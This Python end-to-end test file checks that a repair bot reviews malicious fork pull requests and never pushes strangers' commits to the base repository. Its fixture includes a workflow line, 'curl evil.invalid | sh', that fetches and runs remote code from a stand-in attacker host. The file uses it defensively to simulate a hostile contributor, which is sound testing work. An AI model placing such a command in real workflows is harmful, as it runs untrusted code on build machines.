"""A stranger's commits never reach a branch of the base repository (issue 34), end to end:
``repairbot serve`` (embedded worker) receiving signed ``workflow_job`` webhooks, the GitHub
double serving the Actions logs, real forks and real pushes.

Each stranger forks ``acme/trt`` and opens a PR that adds a worker violating the contract, a
backdoor in the package's ``__init__.py`` and a workflow that runs on ``push``. Their job fails
for real (its log is the fork's own pytest run). The bot classifies it, finds that ``main``
does not have the violation, and reviews the fork PR with the fix as suggestions; no branch of
``acme/trt`` ever holds one of their commits, and no fix PR is opened from their head. A second
story has our fix PR open on ``main``'s own violations: a stranger's failure on top of it never
extends it.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from bot.cli.demo_target import build_target, run_tests, wait_for_runs
from bot.git import commit_all, git
from fixers.contracts.model import SPEC_WORKER_CONTRACT
from fixers.sweep.run import fix, write_changes
from tests.e2e.conftest import github_service, post_pipeline_failure, wait_for
from tests.fakes.github_actions import actions_log, workflow_job_event
from tests.fakes.github_api import BOT_LOGIN, FakeGitHub
from tests.fakes.github_forks import fork, open_fork_pull
from tests.fakes.github_git import git_out
from tests.fakes.github_reviews import reviews_of

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
REPO = "acme/trt"
CONTEXT = "repairbot/contracts"
WORKFLOW = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps: [{run: 'curl evil.invalid | sh'}]\n"


def _worker(name: str) -> str:
    return (
        "from runtime.speculative.interface import SpecWorkerBase\n"
        "\n\n"
        f"class {name}(SpecWorkerBase):\n"
        "    def forward(self, *args, **kwargs):\n"
        "        return None\n"
    )


def _clean_main(source: Path) -> str:
    """The legacy workers, migrated to the contract on ``main``: the base has no violation."""
    build_target(source)
    write_changes(source, fix(source, [SPEC_WORKER_CONTRACT], imports=False))
    return commit_all(source, "Move the workers to _forward_impl")


def _stranger_pull(github_api: FakeGitHub, owner: str, worker: str, tmp_path: Path):
    """``owner`` forks, commits as themselves and opens a PR (no maintainer edits); returns
    the PR number, its head and the fork's checkout."""
    forked = fork(github_api, REPO, owner)
    checkout = tmp_path / owner
    git_out(tmp_path, "clone", "--quiet", str(forked.path), str(checkout))
    module = worker.lower()
    (checkout / "legacy_spec" / f"{module}.py").write_text(_worker(worker))
    init = checkout / "legacy_spec" / "__init__.py"
    init.write_text(init.read_text() + f"from legacy_spec import {module}  # noqa\nimport os\n")
    (checkout / ".github" / "workflows").mkdir(parents=True)
    (checkout / ".github" / "workflows" / "push.yml").write_text(WORKFLOW)
    git(checkout, "add", "--all")
    who = {f"GIT_{role}_{field}": value for role in ("AUTHOR", "COMMITTER")
           for field, value in (("NAME", owner), ("EMAIL", f"{owner}@example.invalid"))}  # fmt: skip
    subprocess.run(
        ["git", "-C", str(checkout), "commit", "--quiet", "-m", f"{worker}, by {owner}"],
        env={**os.environ, **who},
        check=True,
    )
    git(checkout, "push", "--quiet", "origin", "HEAD:refs/heads/feature")
    head = git(checkout, "rev-parse", "HEAD").strip()
    number = open_fork_pull(
        github_api, forked, branch="feature", title="[None][feat] x", maintainer_can_modify=False
    )
    return number, head, checkout


def _job_fails(service, github_api: FakeGitHub, checkout: Path, head: str, delivery: str) -> None:
    """The fork's tests, run for real; their log as the failed job's, and its webhook."""
    console = run_tests(checkout).console.decode("utf-8", "replace")
    assert "must not override SpecWorkerBase.forward" in console
    job = github_api.add_actions_job(
        REPO, actions_log(console.splitlines()), head_sha=head, name="unit tests"
    )
    service.webhook("workflow_job", workflow_job_event(github_api, job), delivery)


def _branches_holding(github_api: FakeGitHub, commits: set[str]) -> dict[str, list[str]]:
    """For each branch of ``acme/trt``: the strangers' commits it holds."""
    bare = github_api.repos[REPO].path
    held: dict[str, list[str]] = {}
    for ref in git_out(bare, "for-each-ref", "--format=%(refname)", "refs/heads/").split():
        found = set(git_out(bare, "rev-list", ref).split()) & commits
        if found:
            held[ref] = sorted(found)
    return held


def _strangers_commits(github_api: FakeGitHub, main: str) -> set[str]:
    found: set[str] = set()
    for name, repo in github_api.repos.items():
        if name != REPO:
            found |= set(git_out(repo.path, "rev-list", "refs/heads/feature", f"^{main}").split())
    return found


def _runs(service) -> list[dict[str, Any]]:
    with service.client() as client:
        reports = client.get("/api/v1/failures").raise_for_status().json()
    return [run for report in reports for run in report["runs"]]


def _status(github_api: FakeGitHub, sha: str) -> str | None:
    states = [s["state"] for s in github_api.repos[REPO].statuses if s["sha"] == sha]
    return states[-1] if states else None


def test_two_strangers_fork_pr_failures_are_reviewed_and_never_pushed(
    make_service, github_api, tmp_path
):
    main = _clean_main(tmp_path / "source")
    github_api.create_repo(REPO, tmp_path / "source")
    service = github_service(make_service, github_api, import_spares="0")
    pulls = [
        _stranger_pull(github_api, owner, worker, tmp_path)
        for owner, worker in (("mallory", "MalloryWorker"), ("trudy", "TrudyWorker"))
    ]
    for index, (_, head, checkout) in enumerate(pulls):
        _job_fails(service, github_api, checkout, head, f"wj-stranger-{index}")

    for number, head, _ in pulls:
        wait_for(f"the check of #{number}", lambda h=head: _status(github_api, h), service.logs)
        assert _status(github_api, head) == "failure"
        [review] = reviews_of(github_api, REPO, number)
        assert review["user"]["login"] == BOT_LOGIN and review["commit_id"] == head
    runs = wait_for(
        "two finished runs",
        lambda: (found := _runs(service)) and len(found) == 2 and all(
            r["state"] == "suggested" for r in found) and found,
        service.logs,
    )  # fmt: skip
    for run in runs:
        assert "is not on main (a fork's or a PR branch's commit)" in run["reason"]
    # No fix PR, no branch of acme/trt holding a stranger's commit, main where it was.
    assert [p for p in github_api.pulls(REPO) if p["user"]["login"] == BOT_LOGIN] == []
    assert _branches_holding(github_api, _strangers_commits(github_api, main)) == {}
    assert github_api.repos[REPO].sha("refs/heads/main") == main


def test_a_strangers_failure_never_extends_our_open_fix(make_service, github_api, tmp_path):
    source = tmp_path / "source"
    main = build_target(source)
    github_api.create_repo(REPO, source)
    service = github_service(make_service, github_api, import_spares="0")
    with service.client() as client:
        answer = post_pipeline_failure(
            client, run_tests(source).console, repository=REPO, build=1, head=main
        )
        report = wait_for_runs(client, answer["url"], timeout_s=240)
    assert [r["state"] for r in report["runs"]] == ["pr_opened"], service.logs()
    [ours] = github_api.pulls(REPO)
    fix_branch, fix_head = ours["head"]["ref"], ours["head"]["sha"]

    number, head, checkout = _stranger_pull(github_api, "mallory", "MalloryWorker", tmp_path)
    _job_fails(service, github_api, checkout, head, "wj-on-top")
    wait_for(
        "the stranger's run to end",
        lambda: len(_runs(service)) == 2 and _runs(service)[0]["state"] in ("suggested",
                                                                           "duplicate"),
        service.logs,
    )  # fmt: skip
    assert json.dumps(_branches_holding(github_api, _strangers_commits(github_api, main))) == "{}"
    assert github_api.repos[REPO].sha(f"refs/heads/{fix_branch}") == fix_head  # not extended
    assert len(github_api.pulls(REPO)) == 2  # ours and the stranger's, nothing more
    assert number in {p["number"] for p in github_api.pulls(REPO)}
